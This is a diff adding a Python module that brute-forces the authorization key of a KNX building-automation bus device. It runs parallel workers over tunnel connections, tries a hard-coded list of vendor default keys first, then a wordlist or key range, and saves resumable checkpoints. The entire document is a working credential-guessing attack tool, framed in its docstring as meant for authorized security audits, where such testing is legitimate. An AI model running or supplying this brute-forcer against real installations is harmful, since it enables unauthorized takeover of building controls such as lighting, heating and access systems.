@@ -0,0 +1,300 @@
+"""Search the authorization key of a bus device over several tunnel connections.
+
+This is meant for security audits of installations the auditor is
+authorized to test. Every tested key is an A_Authorize_Request on the
+bus, so the bus load grows with the count of connections."""
+import asyncio
+import collections
+import hashlib
+import json
+import logging
+import os
+
+from knxcommon.metrics import ProgressMeter
+
+__all__ = ['VENDOR_DEFAULT_KEYS',
+           'KeySpace',
+           'KnxAuthKeyBruteforcer',
+           'load_wordlist']
+
+LOGGER = logging.getLogger(__name__)
+
+# Keys that are tested before any other, the factory default first
+VENDOR_DEFAULT_KEYS = [0xffffffff, 0x00000000, 0x11223344, 0x12345678,
+                       0x87654321, 0x11111111]
+
+
+def load_wordlist(path):
+    """Read keys from a file with one hexadecimal key per
+    line, empty lines and lines starting with # are ignored."""
+    keys = []
+    with open(path) as f:
+        for number, line in enumerate(f, 1):
+            line = line.strip()
+            if not line or line.startswith('#'):
+                continue
+            try:
+                key = int(line, 16)
+            except ValueError:
+                LOGGER.error('Invalid key in line {} of {}, ignoring it'.format(number, path))
+                continue
+            if not 0 <= key <= 0xffffffff:
+                LOGGER.error('Key in line {} of {} is out of range, ignoring it'.format(
+                    number, path))
+                continue
+            keys.append(key)
+    return keys
+
+
+class KeySpace(object):
+    """The keys to test, in order: the wordlist, then every key from start
+    to end (including end) that is not in the wordlist. If end is None,
+    only the wordlist is tested.
+
+    Keys are identified by their position in this order, so the progress
+    of a search is a single position: all keys before it have been tested."""
+    def __init__(self, wordlist=None, start=0, end=None):
+        self.wordlist = []
+        self.words = set()
+        for key in wordlist or []:
+            if key not in self.words:
+                self.words.add(key)
+                self.wordlist.append(key)
+        self.start = start
+        self.end = end
+
+    def __len__(self):
+        sweep = self.end - self.start + 1 if self.end is not None else 0
+        return len(self.wordlist) + max(sweep, 0)
+
+    def key(self, position):
+        if position < len(self.wordlist):
+            return self.wordlist[position]
+        return self.start + position - len(self.wordlist)
+
+    def digest(self):
+        """Return a digest of the order of the keys, checkpoints of a
+        different wordlist or range do not resume a search."""
+        digest = hashlib.sha256()
+        for key in self.wordlist:
+            digest.update(key.to_bytes(4, 'big'))
+        digest.update('{}-{}'.format(self.start, self.end).encode())
+        return digest.hexdigest()
+
+    def positions(self, first=0):
+        """Yield the positions of the keys that have to be tested, from first on."""
+        for position in range(first, len(self)):
+            if position >= len(self.wordlist) and self.key(position) in self.words:
+                # Already tested as part of the wordlist
+                continue
+            yield position
+
+
+class KnxAuthKeyBruteforcer(object):
+    """Test the keys of a KeySpace with A_Authorize_Request on target.
+
+    Every connected KnxTunnelConnection in protocols, of one or more
+    gateways on the bus line of target, gets a worker. Workers take the
+    next key when they are done with the previous one, so the key space
+    is split according to the speed of each connection. A key with an
+    access level of at most level has been found.
+
+    Keys without a response are tested again. After retries keys without a
+    response in a row, the worker reconnects to target, a worker that can
+    not reconnect stops. Whether a device serves more than one connection
+    at the same time depends on the device, workers that are rejected stop
+    and leave the key space to the others.
+
+    If checkpoint is set, the position of the first key that has not been
+    tested is written to this JSON file every checkpoint_interval seconds
+    and at the end, and a search of the same target and key space resumes
+    from it. If the checkpoint already contains a key, it is returned
+    without testing any key. The keys per second are logged every report_interval seconds.
+
+    run() returns (key, level) if a key has been found, otherwise None."""
+    def __init__(self, protocols, target, keys, loop=None, level=0, retries=3,
+                 checkpoint=None, checkpoint_interval=10, report_interval=10):
+        self.loop = loop or asyncio.get_event_loop()
+        self.protocols = protocols
+        self.target = target
+        self.keys = keys
+        self.level = level
+        self.retries = max(retries, 1)
+        self.checkpoint = checkpoint
+        self.checkpoint_interval = checkpoint_interval
+        self.report_interval = report_interval
+        self.positions = None
+        self.next_position = 0
+        # Positions that have been taken by a worker, but not tested yet
+        self.in_flight = set()
+        self.retry = collections.deque()
+        self.found = None
+        self.tested = 0
+        self.last_checkpoint = self.loop.time()
+        self.meter = ProgressMeter('bruteforce', total=len(keys), interval=report_interval,
+                                   logger=LOGGER)
+
+    def __repr__(self):
+        return '%s target: %s, tested: %s, position: %s' % (
+            self.__class__.__name__,
+            self.target,
+            self.tested,
+            self.position)
+
+    @property
+    def position(self):
+        """The position of the first key that has not been tested."""
+        if self.in_flight:
+            return min(self.in_flight)
+        return self.next_position
+
+    @asyncio.coroutine
+    def run(self, first=None):
+        """Test all keys from position first, or from the
+        position in the checkpoint file if first is None."""
+        if first is None:
+            first, found = self.load_checkpoint()
+            if found:
+                LOGGER.info('Checkpoint {} already contains the key {} (access level {})'.format(
+                    self.checkpoint, format(found[0], '08x'), found[1]))
+                self.found = found
+                return found
+        self.next_position = first
+        self.positions = self.keys.positions(first)
+        self.meter.total = len(self.keys) - first
+        LOGGER.info('Testing {} keys on {} over {} connections, starting at key {}'.format(
+            len(self.keys) - first, self.target, len(self.protocols),
+            format(self.keys.key(first), '08x') if first < len(self.keys) else '-'))
+        workers = [asyncio.Task(self._worker(p), loop=self.loop) for p in self.protocols]
+        reporter = asyncio.Task(self._report(), loop=self.loop)
+        try:
+            if workers:
+                yield from asyncio.wait(workers)
+        finally:
+            for w in workers:
+                w.cancel()
+            reporter.cancel()
+            self.save_checkpoint()
+            self.meter.update(self.tested - self.meter.done)
+            self.meter.emit()
+        if self.found:
+            return self.found
+        if self.position < len(self.keys):
+            LOGGER.error('No connection left, {} keys from {} on have not been tested'.format(
+                len(self.keys) - self.position, format(self.keys.key(self.position), '08x')))
+        else:
+            LOGGER.info('No key with access level {} found'.format(self.level))
+        return None
+
+    @asyncio.coroutine
+    def _report(self):
+        """Log the progress every report_interval seconds. The meter is only
+        updated here, as keys of several connections complete at once."""
+        while True:
+            yield from asyncio.sleep(self.report_interval)
+            self.meter.update(self.tested - self.meter.done)
+            self.meter.emit()
+
+    def _take(self):
+        if self.retry:
+            return self.retry.popleft()
+        position = next(self.positions, None)
+        if position is None:
+            self.next_position = len(self.keys)
+            return None
+        self.in_flight.add(position)
+        self.next_position = position + 1
+        return position
+
+    @asyncio.coroutine
+    def _connect(self, protocol, reconnect=False):
+        if reconnect:
+            yield from protocol.tpci_disconnect(self.target)
+        alive = yield from protocol.tpci_connect(self.target)
+        if not alive:
+            LOGGER.error('{} did not accept a connection via {}'.format(
+                self.target, protocol.peername[0]))
+        return alive
+
+    @asyncio.coroutine
+    def _worker(self, protocol):
+        if not protocol.tunnel_established:
+            return
+        connected = yield from self._connect(protocol)
+        if not connected:
+            return
+        failures = 0
+        position = None
+        try:
+            while not self.found and protocol.tunnel_established:
+                position = self._take()
+                if position is None:
+                    break
+                key = self.keys.key(position)
+                level = yield from protocol.apci_authenticate(self.target, key)
+                if level is False:
+                    self.retry.append(position)
+                    position = None
+                    failures += 1
+                    if failures >= self.retries:
+                        failures = 0
+                        connected = yield from self._connect(protocol, reconnect=True)
+                        if not connected:
+                            return
+                    continue
+                failures = 0
+                self.in_flight.discard(position)
+                position = None
+                self.tested += 1
+                if level <= self.level and not self.found:
+                    self.found = (key, level)
+                    LOGGER.info('GOT THE KEY: {} (access level {})'.format(format(key, '08x'),
+                                                                           level))
+                if self.checkpoint and \
+                        self.loop.time() - self.last_checkpoint >= self.checkpoint_interval:
+                    self.save_checkpoint()
+        finally:
+            if position is not None:
+                # Interrupted while testing, the key has to be tested again
+                self.retry.append(position)
+        yield from protocol.tpci_disconnect(self.target)
+
+    def load_checkpoint(self):
+        """Return the position stored in the checkpoint file, 0 if there
+        is none for this search, and the (key, level) it contains or None."""
+        if not self.checkpoint or not os.path.exists(self.checkpoint):
+            return 0, None
+        try:
+            with open(self.checkpoint) as f:
+                state = json.load(f)
+        except (OSError, ValueError) as e:
+            LOGGER.error('Could not read checkpoint {}: {}'.format(self.checkpoint, e))
+            return 0, None
+        if state.get('target') != self.target or state.get('keys') != len(self.keys) or \
+                state.get('keyspace') != self.keys.digest():
+            LOGGER.error('Checkpoint {} belongs to another search, ignoring it'.format(
+                self.checkpoint))
+            return 0, None
+        found = None
+        if state.get('key') is not None:
+            found = (int(state['key'], 16), state.get('level', self.level))
+        return min(state.get('position', 0), len(self.keys)), found
+
+    def save_checkpoint(self):
+        self.last_checkpoint = self.loop.time()
+        if not self.checkpoint:
+            return
+        state = collections.OrderedDict()
+        state['target'] = self.target
+        state['keys'] = len(self.keys)
+        state['keyspace'] = self.keys.digest()
+        state['position'] = self.position
+        state['tested'] = self.tested
+        state['key'] = format(self.found[0], '08x') if self.found else None
+        state['level'] = self.found[1] if self.found else None
+        try:
+            with open(self.checkpoint + '.tmp', 'w') as f:
+                json.dump(state, f)
+            os.replace(self.checkpoint + '.tmp', self.checkpoint)
+        except OSError as e:
+            LOGGER.error('Could not write checkpoint {}: {}'.format(self.checkpoint, e))